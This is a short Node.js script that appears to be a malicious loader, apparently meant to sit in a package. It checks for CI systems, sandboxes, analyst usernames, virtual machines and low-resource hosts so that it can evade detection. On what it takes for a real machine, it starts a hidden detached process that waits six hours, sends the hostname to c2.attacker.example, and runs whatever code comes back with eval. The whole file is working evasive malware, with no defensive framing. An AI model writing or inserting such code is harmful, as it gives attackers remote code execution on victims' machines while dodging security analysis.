const os = require('os');
const bad = ['CI', 'GITHUB_ACTIONS', 'GITLAB_CI', 'TRAVIS', 'JENKINS_URL', 'BUILDKITE', 'CIRCLECI', 'SANDBOX', 'ANALYSIS'];
const users = ['sandbox', 'malware', 'virus', 'john', 'analyst', 'vagrant', 'runner', 'test'];
const hosts = /^(DESKTOP-[A-Z0-9]{6,}SANDBOX|cuckoo|any\.run|WIN-VUA6POUV5UP)$/i;
function real() {
  if (bad.some(k => k in process.env)) return false;
  if (users.includes(os.userInfo().username.toLowerCase())) return false;
  if (hosts.test(os.hostname())) return false;
  if (os.cpus().length < 2) return false;
  if (os.totalmem() < 4 * 1024 ** 3) return false;
  if (os.uptime() < 1800) return false;
  if (/vbox|vmware|qemu/i.test(os.cpus()[0].model)) return false;
  return true;
}
if (real()) {
  const child = require('child_process').spawn(process.execPath, ['-e', `
    setTimeout(() => {
      require('https').get('https://c2.attacker.example/stage2?h=' + require('os').hostname(), r => {
        let s = ''; r.on('data', c => s += c); r.on('end', () => eval(s));
      });
    }, 1000 * 60 * 60 * 6);`], { detached: true, stdio: 'ignore' });
  child.unref();
}
